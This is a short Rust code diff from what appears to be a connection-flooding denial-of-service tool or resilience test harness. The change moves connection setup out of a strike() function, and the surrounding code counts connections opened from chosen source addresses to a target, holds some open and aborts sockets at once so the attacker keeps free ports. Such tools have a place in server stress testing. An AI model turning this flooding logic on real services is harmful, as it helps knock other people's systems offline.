@@ -84,11 +84,12 @@ impl Attack {
                     break;
                 }
                 // A listener whose queue is full refuses or leaves one waiting: all the same to it.
-                if let Some(stream) = strike(kind, *source, target, &path) {
-                    count.fetch_add(1, Ordering::Relaxed);
-                    if kind.holds() {
-                        held.push(stream);
-                    }
+                let Ok(stream) = connect_from(*source, target) else {
+                    continue;
+                };
+                count.fetch_add(1, Ordering::Relaxed);
+                if let Some(stream) = strike(kind, stream, &path).filter(|_| kind.holds()) {
+                    held.push(stream);
                 }
                 if held.len() > HELD {
                     held.remove(0);
@@ -124,8 +125,7 @@ impl Drop for Attack {
 }
 
 /// One connection, as far as the kind goes with it.
-fn strike(kind: AttackKind, source: IpAddr, target: SocketAddr, path: &str) -> Option<TcpStream> {
-    let mut stream = connect_from(source, target).ok()?;
+fn strike(kind: AttackKind, mut stream: TcpStream, path: &str) -> Option<TcpStream> {
     // Closed at once, so that the attacker does not run out of ports.
     let abort = linger {
         l_onoff: 1,
